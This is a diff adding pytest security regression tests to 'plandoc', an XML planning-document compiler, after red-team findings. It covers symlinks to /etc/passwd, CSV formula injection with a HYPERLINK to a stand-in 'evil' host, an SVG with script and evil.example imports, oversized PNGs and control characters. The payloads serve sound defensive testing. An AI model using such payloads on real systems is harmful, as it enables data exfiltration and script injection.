@@ -3,14 +3,19 @@ correctly), never a traceback, never a read outside the plan, in bounded time.""
 
 from __future__ import annotations
 
+import re
+import shutil
+import subprocess
+import sys
 import time
 from pathlib import Path
 
 import pytest
+from lxml import etree
 
 from plandoc.pipeline import build, compile_plan
 
-from plans import MINI
+from plans import MINI, ROOT
 
 
 def codes(plan_dir: Path) -> list[str]:
@@ -167,3 +172,317 @@ def test_huge_spans_are_refused_quickly(mini_copy):
     t0 = time.perf_counter()
     assert "PD110" in codes(mini_copy)
     assert time.perf_counter() - t0 < 5
+
+
+# ---- second pass (issue 13): the holes a red team found
+
+
+def test_plan_xml_symlinked_out_of_the_plan_is_never_opened(mini_copy, tmp_path):
+    """plan.xml itself is resolved inside the plan: a link to another plan, or to
+    /etc/passwd, is refused before it is read, and the message quotes nothing of it."""
+    secret = tmp_path / "secret.xml"
+    secret.write_text("root:x:0:0:机密\n", encoding="utf-8")
+    (mini_copy / "plan.xml").unlink()
+    (mini_copy / "plan.xml").symlink_to(secret)
+    diags = compile_plan(mini_copy).diagnostics
+    assert [d.code for d in diags] == ["PD002"]
+    assert "root" not in diags[0].message and "机密" not in diags[0].message
+    other = tmp_path / "other"
+    shutil.copytree(MINI, other)
+    (mini_copy / "plan.xml").unlink()
+    (mini_copy / "plan.xml").symlink_to(other / "plan.xml")
+    assert codes(mini_copy) == ["PD002"]
+
+
+def test_files_reached_through_a_symlinked_directory_are_refused(mini_copy, tmp_path):
+    outside = tmp_path / "elsewhere"
+    shutil.move(mini_copy / "chapters", outside)
+    (mini_copy / "chapters").symlink_to(outside)
+    assert "PD002" in codes(mini_copy)
+
+
+@pytest.mark.parametrize("encoding", ["ISO-8859-1", "GBK", "utf-16", "US-ASCII"])
+def test_an_encoding_declaration_other_than_utf8_is_an_error(mini_copy, encoding):
+    ch = mini_copy / "chapters" / "ch01.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace("UTF-8", encoding, 1), encoding="utf-8")
+    diags = compile_plan(mini_copy).diagnostics
+    assert [(d.code, d.line, d.column) for d in diags] == [("PD006", 1, 31)]
+
+
+def test_fmt_never_rewrites_a_file_it_cannot_read_faithfully(mini_copy):
+    """A mis-declared encoding would be written back as mojibake; a DOCTYPE would be
+    dropped with its entities left undefined: fmt reports both and leaves the bytes."""
+    from plandoc.fmt import fmt
+    ch, ind = mini_copy / "chapters" / "ch01.xml", mini_copy / "indicators.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace("UTF-8", "ISO-8859-1", 1) + "  ", encoding="utf-8")
+    text = ind.read_text(encoding="utf-8")
+    ind.write_text(text.replace("<indicators", '<!DOCTYPE indicators [<!ENTITY x "某">]>\n<indicators', 1)
+                   .replace("</indicators>", "<!-- &x; --></indicators>  "), encoding="utf-8")
+    before = {p: p.read_bytes() for p in (ch, ind)}
+    outcomes = {o.path.name: o for o in fmt(mini_copy)}
+    assert "PD006" in outcomes["ch01.xml"].error and "PD101" in outcomes["indicators.xml"].error
+    assert all(p.read_bytes() == data for p, data in before.items())
+
+
+def test_bad_utf8_column_counts_characters(mini_copy):
+    put(mini_copy, "chapters/ch01.xml", chapter().encode("utf-8").replace("正文".encode(), "正".encode() + b"\xff"))
+    (d,) = compile_plan(mini_copy).diagnostics
+    line = chapter().splitlines()[d.line - 1]
+    assert line[d.column - 1] == "文"  # the bad byte stands where 文 was, after 正
+
+
+def _nested(depth: int) -> str:
+    return "<p>" + "<em>" * depth + "深" + "</em>" * depth + "。</p>"
+
+
+def test_nesting_past_the_limit_is_refused_before_any_renderer(mini_copy):
+    from plandoc.load import MAX_DEPTH
+    put(mini_copy, "chapters/ch01.xml", chapter(_nested(250)))
+    assert codes(mini_copy) == ["PD120"]
+    put(mini_copy, "chapters/ch01.xml", chapter(_nested(MAX_DEPTH)))
+    assert codes(mini_copy) == ["PD120"]  # chapter and p take two levels more
+
+
+def test_every_renderer_renders_the_deepest_nesting_check_accepts(mini_copy, tmp_path):
+    from plandoc.load import MAX_DEPTH
+    ch = mini_copy / "chapters" / "ch01.xml"
+    deep = "<em>" * (MAX_DEPTH - 4) + "深" + "</em>" * (MAX_DEPTH - 4)
+    ch.write_text(ch.read_text(encoding="utf-8").replace("坚持。", f"坚持{deep}。"), encoding="utf-8")
+    compiled = compile_plan(mini_copy)
+    assert compiled.ok and compiled.diagnostics == ()
+    written = build(compiled.plan, tmp_path / "out", ["json", "csv", "xlsx", "html", "pdf"])
+    assert {p.name for p in written} >= {"plan.json", "indicators.csv", "indicators.xlsx", "plan.pdf"}
+    page = (tmp_path / "out" / "site" / "chapters" / "ch-review.html").read_text(encoding="utf-8")
+    (tags,) = re.findall(r"((?:<[a-z]+>)+)深", page)
+    assert tags.count("<") == MAX_DEPTH - 4
+
+
+@pytest.mark.parametrize("value", ["NaN", "nan", "inf", "-Infinity", "1e309", "[inf]"])
+def test_non_finite_values_are_errors(mini_copy, value):
+    ch = mini_copy / "chapters" / "ch01.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace("<v>3000</v>", f"<v>{value}</v>"), encoding="utf-8")
+    compiled = compile_plan(mini_copy)
+    assert [d.code for d in compiled.diagnostics] == ["PD121"] and not compiled.ok
+
+
+def test_an_empty_value_cell_is_a_note_and_a_dash_is_not(mini_copy):
+    ch = mini_copy / "chapters" / "ch01.xml"
+    text = ch.read_text(encoding="utf-8")
+    ch.write_text(text.replace("<v>3000</v>", "<v> </v>"), encoding="utf-8")
+    compiled = compile_plan(mini_copy)
+    assert [(d.code, d.severity.value) for d in compiled.diagnostics] == [("PD122", "note")] and compiled.ok
+    ch.write_text(text.replace("<v>3000</v>", "<v>-</v>"), encoding="utf-8")
+    assert codes(mini_copy) == []
+
+
+@pytest.mark.parametrize("char", [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]])
+def test_bidi_controls_are_linted_wherever_they_are(mini_copy, char):
+    ind = mini_copy / "indicators.xml"  # in a comment: no check of the model would see it
+    ind.write_text(ind.read_text(encoding="utf-8").replace("</indicators>", f"<!-- 审{char}阅 --></indicators>"),
+                   encoding="utf-8")
+    diags = compile_plan(mini_copy).diagnostics
+    assert [d.code for d in diags] == ["PD367"]
+    line = ind.read_text(encoding="utf-8").splitlines()[diags[0].line - 1]
+    assert line[diags[0].column - 1] == char
+
+
+@pytest.mark.parametrize("target", ["/etc/passwd", "../../../etc/passwd"])
+def test_diff_of_a_revision_with_a_symlink_out_of_the_plan_is_a_diagnostic(tmp_path, target):
+    repo = tmp_path / "repo"
+    shutil.copytree(MINI, repo / "plan")
+    git = ["git", "-C", str(repo), "-c", "user.email=t@example.invalid", "-c", "user.name=t"]
+    subprocess.run([*git, "init", "-q"], check=True)
+    subprocess.run([*git, "add", "-A"], check=True)
+    subprocess.run([*git, "commit", "-qm", "v1"], check=True)
+    (repo / "plan" / "chapters" / "ch01.xml").unlink()
+    (repo / "plan" / "chapters" / "ch01.xml").symlink_to(target)
+    subprocess.run([*git, "commit", "-qam", "v2"], check=True)
+    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "diff", "HEAD~1", "HEAD"],
+                       capture_output=True, text=True, cwd=repo)
+    assert r.returncode == 1, r.stderr
+    assert "Traceback" not in r.stderr and "root:" not in r.stderr + r.stdout
+    assert "HEAD:plan/chapters/ch01.xml: error[PD002]" in r.stdout + r.stderr
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(mini_copy, tmp_path):
+    import csv
+    ind = mini_copy / "indicators.xml"
+    ind.write_text(ind.read_text(encoding="utf-8").replace(
+        "<name>地区生产总值</name>", '<name>=HYPERLINK("http://evil/?"&amp;A1,"x")</name>'), encoding="utf-8")
+    ch = mini_copy / "chapters" / "ch01.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace("<v>3000</v>", "<v>@SUM(1)</v>")
+                  .replace("<v>2107.7</v>", "<v>-33</v>").replace("<v>54</v>", "<v>-</v>"), encoding="utf-8")
+    compiled = compile_plan(mini_copy)
+    build(compiled.plan, tmp_path / "out", ["csv"])
+    with open(tmp_path / "out" / "indicators.csv", encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in cells and "'@SUM(1)" in cells
+    assert "-33" in cells and "-" in cells
+    assert not any(c[:1] in "=+@\t\r" and c != "+" for c in cells if c)
+    assert not any(c.startswith("-") and c not in ("-", "-33") for c in cells)
+
+
+def test_out_refuses_a_directory_that_is_not_a_previous_output(tmp_path):
+    from plandoc.pipeline import STAMP
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / "notes.txt").write_text("私人笔记", encoding="utf-8")
+    inode = home.stat().st_ino
+    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--plan", str(MINI), "--out", str(home),
+                        "--format", "json"], capture_output=True, text=True)
+    assert r.returncode == 2 and "Traceback" not in r.stderr and STAMP in r.stderr
+    assert home.stat().st_ino == inode and sorted(p.name for p in home.iterdir()) == [".ssh", "notes.txt"]
+    compiled = compile_plan(MINI)  # the library refuses too, not only the command line
+    with pytest.raises(FileExistsError):
+        build(compiled.plan, home, ["json"])
+    out = tmp_path / "out"  # a previous output (stamped) is rebuilt; an empty directory is fine
+    out.mkdir()
+    for _ in range(2):
+        r = subprocess.run([sys.executable, str(ROOT / "build.py"), "build", "--plan", str(MINI), "--out", str(out),
+                            "--format", "json"], capture_output=True, text=True)
+        assert r.returncode == 0, r.stderr
+    assert (out / STAMP).is_file() and (out / "plan.json").is_file()
+
+
+def _png(width: int, height: int, idat: bytes | None = None) -> bytes:
+    """A PNG header for any size; the pixel data is a real one only when small."""
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+    if idat is None:
+        idat = zlib.compress(b"".join(b"\x00" + b"\x80\x80\x80" * width for _ in range(height)))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))
+
+
+def _gif() -> bytes:
+    import io
+
+    from PIL import Image
+    buf = io.BytesIO()
+    Image.new("P", (4, 4)).save(buf, "GIF")
+    return buf.getvalue()
+
+
+def _with_image(plan: Path, name: str, data: bytes) -> list:
+    (plan / "figures" / "fig-map.svg").unlink()
+    (plan / "figures" / name).write_bytes(data)
+    return compile_plan(plan).diagnostics
+
+
+@pytest.mark.parametrize("name, data, says", [
+    ("fig-map.png", _png(40, 30)[:-30], "损坏"),                      # truncated: no IEND, short IDAT
+    ("fig-map.png", b"\xff\xd8\xff\xe0" + b"\x00" * 200, "损坏"),      # JPEG magic, nothing behind it
+    ("fig-map.png", _gif(), "GIF"),                                     # not what its name says
+    ("fig-map.jpg", _png(4, 4), "PNG"),
+    ("fig-map.png", _png(12000, 12000, idat=b"x\x9c\x03\x00"), "12000×12000"),  # a few bytes, 144 Mpx
+    ("fig-map.png", _png(60000, 60000, idat=b"x\x9c\x03\x00"), "像素过多"),     # past Pillow's own limit
+    ("fig-map.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>", "SVG"),
+    ("fig-map.svg", b'<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', "SVG"),
+])
+def test_unusable_images_are_refused_at_load(mini_copy, name, data, says):
+    t0 = time.perf_counter()
+    diags = _with_image(mini_copy, name, data)
+    assert time.perf_counter() - t0 < 5
+    assert [d.code for d in diags] == ["PD230"] and says in diags[0].message
+    assert diags[0].file.endswith("chapters/ch01.xml") and diags[0].line > 0
+
+
+def test_a_sound_raster_image_passes(mini_copy, tmp_path):
+    assert _with_image(mini_copy, "fig-map.png", _png(40, 30)) == ()
+    compiled = compile_plan(mini_copy)
+    build(compiled.plan, tmp_path / "out", ["html"])
+    assert (tmp_path / "out" / "site" / "media" / "figures" / "fig-map.png").read_bytes() == _png(40, 30)
+
+
+EVIL_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
+<script>alert(2)</script><rect width="10" height="10" onclick="alert(3)" style="fill:url(http://evil.example/a)"/>
+<image xlink:href="http://evil.example/track.png" width="5" height="5"/><use href="#r"/>
+<a href=" javascript:alert(4)"><text>链接</text></a><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
+<style>@import url(http://evil.example/x.css);</style><rect id="r" width="3" height="3" fill="#336"/></svg>""".encode("utf-8")
+
+
+def test_svg_active_content_is_reported_and_never_published(mini_copy, tmp_path):
+    diags = _with_image(mini_copy, "fig-map.svg", EVIL_SVG)
+    assert [(d.code, d.severity.value) for d in diags] == [("PD231", "warning")]
+    compiled = compile_plan(mini_copy)
+    build(compiled.plan, tmp_path / "out", ["html"])
+    (published,) = (tmp_path / "out" / "site").rglob("fig-map.svg")
+    text = published.read_text(encoding="utf-8")
+    for bad in ("<script", "onload", "onclick", "evil.example", "javascript", "foreignObject", "@import"):
+        assert bad not in text, bad
+    assert 'href="#r"' in text and 'id="r"' in text and "链接" in text  # the drawing itself stays
+
+
+def test_import_reports_every_character_xml_cannot_hold(tmp_path):
+    """The red team's input: control characters and NUL in a plain-text plan reach no
+    lxml ValueError; each one is a finding with its line and column, and the written
+    XML is well-formed."""
+    from plandoc.importer import run
+    text = tmp_path / "t.txt"
+    text.write_bytes("永州\n第一章 总则\n\x01\x00坚持。\x0c\x1b\n".encode("utf-8") + "\ufffe尾。\n".encode("utf-8"))
+    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "import", str(text), "--out", str(tmp_path / "out")],
+                       capture_output=True, text=True)
+    assert "Traceback" not in r.stderr and r.returncode in (0, 1), r.stderr
+    result = run(text, tmp_path / "out2")
+    found = [(f.lines, f.message) for f in result.findings if f.kind == "control-char"]
+    assert found == [((3,), "U+0001 at column 1 removed"), ((3,), "U+0000 at column 2 removed"),
+                     ((3,), "U+000C at column 6 removed"), ((3,), "U+001B at column 7 removed"),
+                     ((4,), "U+FFFE at column 1 removed")]
+    for path in result.files:
+        etree.parse(str(path))  # well-formed
+    assert "\x00" not in (tmp_path / "out2" / "import-report.md").read_text(encoding="utf-8")
+
+
+def test_an_image_format_plandoc_does_not_publish_is_refused(mini_copy):
+    ch = mini_copy / "chapters" / "ch01.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace('<figure id="fig-map">', '<figure id="fig-map" src="figures/map.gif">'),
+                  encoding="utf-8")
+    (mini_copy / "figures" / "map.gif").write_bytes(_gif())
+    diags = compile_plan(mini_copy).diagnostics
+    assert [d.code for d in diags] == ["PD230"] and ".gif" in diags[0].message
+
+
+@pytest.mark.parametrize("name", ["fig-map.png", "fig-map.jpg", "fig-map.webp"])
+def test_truncated_images_are_refused_even_where_pillow_tolerates_them(mini_copy, monkeypatch, name):
+    """WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process (serve's PDF
+    worker imports it): the check must not depend on that flag."""
+    import io
+
+    from PIL import Image, ImageFile
+    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
+    buf = io.BytesIO()
+    Image.effect_noise((64, 64), 40).convert("RGB").save(buf, {"png": "PNG", "jpg": "JPEG", "webp": "WEBP"}[name[8:]])
+    assert _with_image(mini_copy, name, buf.getvalue()) == ()
+    (mini_copy / "figures" / name).write_bytes(buf.getvalue()[: len(buf.getvalue()) * 2 // 3])
+    diags = compile_plan(mini_copy).diagnostics
+    assert [d.code for d in diags] == ["PD230"] and "损坏" in diags[0].message
+
+
+def test_huge_paragraphs_are_not_kept_in_the_check_caches(mini_copy):
+    """serve recompiles on every edit: the per-paragraph caches of the text checks must
+    not keep megabyte paragraphs (the importer fuzzer grew to 4.7 GB before this)."""
+    from plandoc.checks import text as text_checks
+    compile_plan(mini_copy)
+    before = [f.cache_info().currsize for f in (text_checks._long_sentences, text_checks._unbalanced)]
+    ch = mini_copy / "chapters" / "ch01.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace("坚持。", "坚持" + "很长的一句话，" * 100000 + "。"),
+                  encoding="utf-8")
+    compile_plan(mini_copy)
+    after = [f.cache_info().currsize for f in (text_checks._long_sentences, text_checks._unbalanced)]
+    assert after == before
+
+
+def test_import_of_a_paragraph_xml_cannot_hold_is_refused_cleanly(tmp_path):
+    """A paragraph past libxml2's 10 MB text-node limit cannot become a plan file: the
+    command says so and exits 2 (the importer fuzzer found the traceback)."""
+    lines = (ROOT / "tests" / "fixtures" / "seed" / "yongzhou-14th.txt").read_text(encoding="utf-8").split("\n")
+    lines = lines[:300] + lines[1945:]
+    lines[219] *= 20000  # a paragraph of the first chapter, 3.7 million characters (11 MB)
+    text = tmp_path / "t.txt"
+    text.write_text("\n".join(lines), encoding="utf-8")
+    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "import", str(text), "--out", str(tmp_path / "out")],
+                       capture_output=True, text=True)
+    assert r.returncode == 2 and "Traceback" not in r.stderr and "过长" in r.stderr, r.stderr[-500:]
